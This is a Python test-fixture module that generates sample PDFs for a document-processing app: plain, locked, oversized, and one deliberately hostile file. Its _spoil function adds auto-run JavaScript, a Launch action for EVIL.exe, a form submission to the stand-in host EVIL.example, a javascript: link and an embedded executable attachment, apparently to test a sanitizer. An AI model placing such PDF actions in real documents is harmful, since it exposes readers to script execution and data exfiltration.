"""PDFs for tests: plain ones, and those that strangers would send."""

import hashlib
import io
import random
import re
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from reportlab.pdfgen.canvas import Canvas

from app.integrations import documents
from app.integrations.documents import names

#: Of a page, in points.
A4 = (595.0, 842.0)


def pdf(*texts: str, size: tuple[float, float] = A4) -> bytes:
    """A PDF with a page for each text."""
    kept = io.BytesIO()
    canvas = Canvas(kept, pagesize=size)
    for text in texts:
        canvas.drawString(size[0] / 10, size[1] / 2, text)
        canvas.showPage()
    canvas.save()
    return kept.getvalue()


def lines(*texts: str) -> bytes:
    """A PDF of one page, with lines that follow one another."""
    kept = io.BytesIO()
    canvas = Canvas(kept, pagesize=A4)
    for rank, text in enumerate(texts):
        canvas.drawString(60, 700 - 14 * rank, text)
    canvas.showPage()
    canvas.save()
    return kept.getvalue()


def draw_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have PDFs cleaned and drawn at once: how they really are, ``test_documents.py`` says."""

    def clean(source: Path, target: Path) -> documents.Cleaned:
        content = source.read_bytes()
        target.write_bytes(content)
        pages = len(re.findall(rb"/Type /Page\b", content))
        return documents.Cleaned(pages, len(content), hashlib.sha256(content).hexdigest())

    def draw(source: Path, place: documents.Place, *, pages: int) -> list[documents.Page]:
        source.stat()
        revision = place.revision
        made = [names.cover(revision)]
        for number in range(1, pages + 1):
            made += [names.page(revision, number), names.small(revision, number)]
        for name in made:
            (place.folder / name).write_bytes(name.encode())
        return [
            documents.Page(number, 1600, 2265, f"Texte {revision}-{number}")
            for number in range(1, pages + 1)
        ]

    monkeypatch.setattr(documents, "clean", clean)
    monkeypatch.setattr(documents, "draw", draw)


def pages(count: int) -> bytes:
    """A PDF of so many pages, which are all the same."""
    with pikepdf.open(io.BytesIO(pdf("Une page"))) as made:
        (first,) = made.pages
        for _page in range(count - 1):
            made.pages.append(first)
        return _saved(made)


def changed(content: bytes, change: Callable[[Pdf], object]) -> bytes:
    """A PDF, once something was done to it."""
    with pikepdf.open(io.BytesIO(content)) as made:
        change(made)
        return _saved(made)


def locked(content: bytes, *, user: str = "") -> bytes:
    """A PDF behind a password, empty or not."""
    with pikepdf.open(io.BytesIO(content)) as made:
        return _saved(made, encryption=pikepdf.Encryption(owner="owner", user=user))


def _saved(made: Pdf, **options: object) -> bytes:
    kept = io.BytesIO()
    made.save(kept, **options)
    return kept.getvalue()


def hostile() -> bytes:
    """A PDF that does all that one must not."""
    return changed(pdf("Bonjour", "Au revoir"), _spoil)


def _spoil(made: Pdf) -> None:
    script = Dictionary(S=Name.JavaScript, JS=String("app.alert('EVIL')"))
    launch = Dictionary(S=Name.Launch, F=String("EVIL.exe"))
    send = Dictionary(S=Name.SubmitForm, F=String("https://EVIL.example"))
    root = made.Root
    root.OpenAction = made.make_indirect(script)
    root.AA = Dictionary(WC=launch)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("EVIL"), script])))
    made.attachments["EVIL.exe"] = b"EVIL content"
    field = Dictionary(
        Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("EVIL"), Rect=[0, 0, 9, 9]
    )
    root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]), XFA=String("EVIL"))
    page = made.pages[0].obj
    page.AA = Dictionary(O=script)
    page.Annots = Array(
        [
            _link(Dictionary(S=Name.URI, URI=String("https://espci.fr"))),
            _link(Dictionary(S=Name.URI, URI=String("javascript:EVIL"))),
            _link(launch),
            _link(send),
            _link(Dictionary(S=Name.Named, N=Name.NextPage, Next=Array([launch]))),
            _link(Dictionary(S=Name.GoToR, F=String("EVIL.pdf"))),
            made.make_indirect(field),
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.FileAttachment,
                Rect=[0, 0, 9, 9],
                FS=Dictionary(F=String("EVIL.exe"), EF=Dictionary(F=made.make_stream(b"EVIL"))),
            ),
        ]
    )


def _link(action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)


def heavy(path: Path, size: int) -> None:
    """Write a PDF of a little less than so many bytes: a page, and a picture as scanners make."""
    width, strip = 5000, 100
    strips = (size - 100_000) // (3 * width * strip)
    chance, squeeze = random.Random(7), zlib.compressobj(0)
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</XObject<</Im 5 0 R>>>>>>",
        4: b"<</Length 25>>stream\n595 0 0 842 0 0 cm /Im Do\nendstream",
        5: b"<</Type/XObject/Subtype/Image/Filter/FlateDecode/Length 6 0 R/Width %d/Height %d"
        b"/ColorSpace/DeviceRGB/BitsPerComponent 8>>stream\n" % (width, strips * strip),
    }
    places = {}
    with path.open("wb") as file:
        file.write(b"%PDF-1.7\n")
        for number, text in objects.items():
            places[number] = file.tell()
            file.write(b"%d 0 obj\n%b" % (number, text))
            if number == 5:
                begun = file.tell()
                for _strip in range(strips):
                    file.write(squeeze.compress(chance.randbytes(3 * width * strip)))
                file.write(squeeze.flush())
                length = file.tell() - begun
                file.write(b"\nendstream")
            file.write(b"\nendobj\n")
        places[6] = file.tell()
        file.write(b"6 0 obj\n%d\nendobj\n" % length)
        table = file.tell()
        file.write(b"xref\n0 7\n0000000000 65535 f \n")
        file.write(b"".join(b"%010d 00000 n \n" % place for place in places.values()))
        file.write(b"trailer\n<</Size 7/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % table)
